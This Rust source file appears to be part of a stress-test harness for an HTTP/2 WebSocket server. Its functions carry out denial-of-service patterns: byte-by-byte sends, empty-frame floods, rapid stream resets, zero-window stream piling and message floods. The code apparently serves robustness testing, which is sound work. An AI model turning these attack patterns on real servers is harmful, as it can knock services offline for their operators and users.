//! Who attacks, over HTTP/2.

use std::{io, time::Duration};

use bytes::Bytes;
use h2::Reason;
use http::{HeaderValue, header::SEC_WEBSOCKET_EXTENSIONS};
use tokio::{
    runtime,
    time::{sleep, timeout},
};

use crate::{
    attack::Streams,
    attacker::Target,
    support::{
        BINARY, frame,
        http2::{Raw, RawSocket},
    },
};

/// Of a DATA frame, beside its bytes.
const HEADER: usize = 9;

/// Attacks until it is stopped, or the server ends the connection.
pub(crate) fn run(target: &Target, attack: &Streams) -> io::Result<()> {
    let runtime = runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    runtime.block_on(async {
        let stopped = async {
            while !target.is_stopped() {
                sleep(Duration::from_millis(10)).await;
            }
        };
        tokio::select! {
            () = go(target, attack) => {}
            () = stopped => {}
        }
    });
    Ok(())
}

async fn go(target: &Target, attack: &Streams) {
    match attack {
        Streams::Bytes { path, sent } => {
            let mut raw = Raw::connect(target.addr).await;
            let mut socket = open(&mut raw, path).await;
            while send_bytes(target, &mut socket, sent).await {
                discard(&mut socket).await;
            }
        }
        Streams::Empty => {
            let mut raw = Raw::connect(target.addr).await;
            let mut socket = open(&mut raw, "/echo").await;
            let mut count = 0_u32;
            while socket.send.send_data(Bytes::new(), false).is_ok() {
                target.count(HEADER);
                count += 1;
                if count % 100 == 0 {
                    // For its driver to write.
                    tokio::task::yield_now().await;
                }
            }
        }
        Streams::Resets => {
            let mut raw = Raw::connect(target.addr).await;
            let half = &frame(BINARY, &[7; 1000])[..500];
            loop {
                let mut socket = open(&mut raw, "/echo").await;
                if !socket.try_send(half.to_vec()).await {
                    break;
                }
                target.count(HEADER + half.len());
                socket.send.send_reset(Reason::CANCEL);
                target.count(HEADER + 4);
            }
        }
        Streams::NoWindow { streams } => {
            let mut raw = Raw::connect_with(target.addr, 0).await;
            let message = frame(BINARY, &[7; 1000]);
            let mut sockets = Vec::new();
            for _ in 0..*streams {
                sockets.push(open(&mut raw, "/echo").await);
            }
            loop {
                for socket in &mut sockets {
                    let sent = socket.try_send(message.clone());
                    if let Ok(true) = timeout(Duration::from_millis(1), sent).await {
                        target.count(HEADER + message.len());
                    }
                }
                sleep(Duration::from_millis(1)).await;
            }
        }
        Streams::Flood { sent } => {
            let mut raw = Raw::connect(target.addr).await;
            let mut socket = open(&mut raw, "/echo").await;
            while socket.try_send(sent.clone()).await {
                target.count(HEADER + sent.len());
                discard(&mut socket).await;
            }
        }
    }
    // Whoever is refused comes back, and not at once.
    sleep(Duration::from_millis(1)).await;
}

/// Opens a stream that may be sent compressed messages.
async fn open(raw: &mut Raw, path: &str) -> RawSocket {
    let mut request = Raw::handshake_at(path);
    let offer = HeaderValue::from_static("permessage-deflate");
    request
        .headers_mut()
        .insert(SEC_WEBSOCKET_EXTENSIONS, offer);
    raw.open_with(request).await
}

/// Sends bytes one by one, as far as the window allows; whether the stream is there.
async fn send_bytes(target: &Target, socket: &mut RawSocket, bytes: &[u8]) -> bool {
    for byte in bytes {
        if !socket.try_send(vec![*byte]).await {
            return false;
        }
        target.count(HEADER + 1);
    }
    true
}

/// Reads what has come, and drops it.
async fn discard(socket: &mut RawSocket) {
    // The driver is given a turn in any case.
    tokio::task::yield_now().await;
    while let Ok(Some(Ok(data))) = timeout(Duration::ZERO, socket.recv.data()).await {
        let _ = socket.recv.flow_control().release_capacity(data.len());
    }
}
